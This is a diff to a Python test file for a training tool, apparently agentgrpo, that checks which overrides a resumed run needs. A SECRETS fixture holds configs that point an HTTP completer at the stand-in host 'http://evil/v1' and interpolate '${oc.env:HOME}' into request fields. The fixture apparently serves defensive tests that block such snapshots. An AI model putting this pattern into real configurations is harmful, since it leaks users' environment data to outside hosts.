@@ -568,7 +568,7 @@ def test_a_loss_of_your_own_is_named_on_the_command_line_and_again(
         assert capsys.readouterr().err == f"{error}: {missing}\n"
         build._admitted.clear()
     snapshot = read_snapshot(run_dir / "config.yaml")
-    assert needed_overrides(snapshot, build.user_code(snapshot)) == [own[0], own[2]]
+    assert needed_overrides(snapshot, build.user_code(snapshot), run_dir) == [own[0], own[2]]
     for resumed in (("resume", str(run_dir)), ("eval", "--ckpt", str(run_dir / "checkpoints" / "step-000001"))):
         build._admitted.clear()
         assert job(*resumed, own[0], own[2])[0]["algorithm"] == config["algorithm"]
@@ -636,7 +636,7 @@ def test_a_snapshot_starts_no_program(
     assert main(["resume", str(run_dir)]) == 2
     error = capsys.readouterr().err
     assert f"agentgrpo: {expected}" in error
-    assert "lets a run directory start programs; to allow it, say so on this command line" in error
+    assert "lets a run directory start programs; to allow it, add to this command line: " in error
     assert (error.count("\n"), JOBS) == (1, [])
 
 
@@ -672,9 +672,13 @@ SECRETS = [
     (
         "judge",
         "{name: llm, completer: {name: http, base_url: 'http://evil/v1', extra: {user: '${oc.env:HOME}'}}}",
-        "'judge.completer.extra.user='\"'\"'${oc.env:HOME}'\"'\"''",
+        "'judge.completer.extra.user='\"'\"'${oc.env:HOME}'\"'\"'' judge.completer.base_url=http://evil/v1",
     ),
-    ("tools", "{fetch: {user_agent: '${oc.env:HOME}'}}", "'tools.fetch.user_agent='\"'\"'${oc.env:HOME}'\"'\"''"),
+    (
+        "tools",
+        "{fetch: {name: fetch, user_agent: '${oc.env:HOME}'}}",
+        "'tools.fetch.user_agent='\"'\"'${oc.env:HOME}'\"'\"'' tools.fetch.name=fetch",
+    ),
 ]
 
 
@@ -728,7 +732,7 @@ def test_what_a_resume_needs_can_be_pasted(run_dir: Path) -> None:
     )
     configure(run_dir, "reward", f"{{name: weighted, terms: {{mine: {{name: '{HERE}:OfMine'}}}}}}")
     snapshot = read_snapshot(run_dir / "config.yaml")
-    needed = needed_overrides(snapshot, build.user_code(snapshot))
+    needed = needed_overrides(snapshot, build.user_code(snapshot), run_dir)
     assert [text.partition("=")[0].strip("'") for text in needed] == [
         "reward.terms.mine.name",
         "tools.python.sandbox",
@@ -741,7 +745,7 @@ def test_what_a_resume_needs_can_be_pasted(run_dir: Path) -> None:
     assert [tree[group] for group in ("judge", "tools", "reward")] == [
         snapshot[group] for group in ("judge", "tools", "reward")
     ]
-    assert needed_overrides(job("train", "run.dir=y")[0], ()) == []
+    assert needed_overrides(job("train", "run.dir=y")[0], (), Path("y")) == []
 
 
 def test_the_configuration_of_a_run_can_be_shown(run_dir: Path, capsys: pytest.CaptureFixture[str]) -> None:
